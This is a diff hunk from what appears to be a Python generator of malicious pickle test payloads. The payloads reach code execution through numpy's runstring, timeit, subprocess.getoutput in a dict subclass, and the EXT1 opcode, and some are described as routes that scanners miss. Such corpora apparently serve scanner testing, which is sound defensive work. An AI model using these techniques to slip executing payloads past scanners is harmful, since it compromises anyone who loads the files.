@@ -160,7 +160,11 @@ def payloads(place: Place) -> Iterator[tuple[str, str, bytes]]:
         "a function of numpy that runs text",
         call("numpy.testing._private.utils.runstring", python("runstring"), b"}"),
     )
-    yield "timeit", "a module of the standard library that scanners forget", call("timeit.timeit", python("timeit"))
+    yield (
+        "timeit",
+        "a module of the standard library that scanners forget",
+        call("timeit.timeit", word("pass"), python("timeit")),
+    )
     yield "partial", "a callable put together from parts", partial(place)
     yield "dict-subclass", "a call in a state dict's own class", call("subprocess.getoutput", shell("dict-subclass"))
     yield "extension", "opcode EXT1, a name from the registry of copyreg", b"\x82\x01" + shell("extension") + b"\x85R"
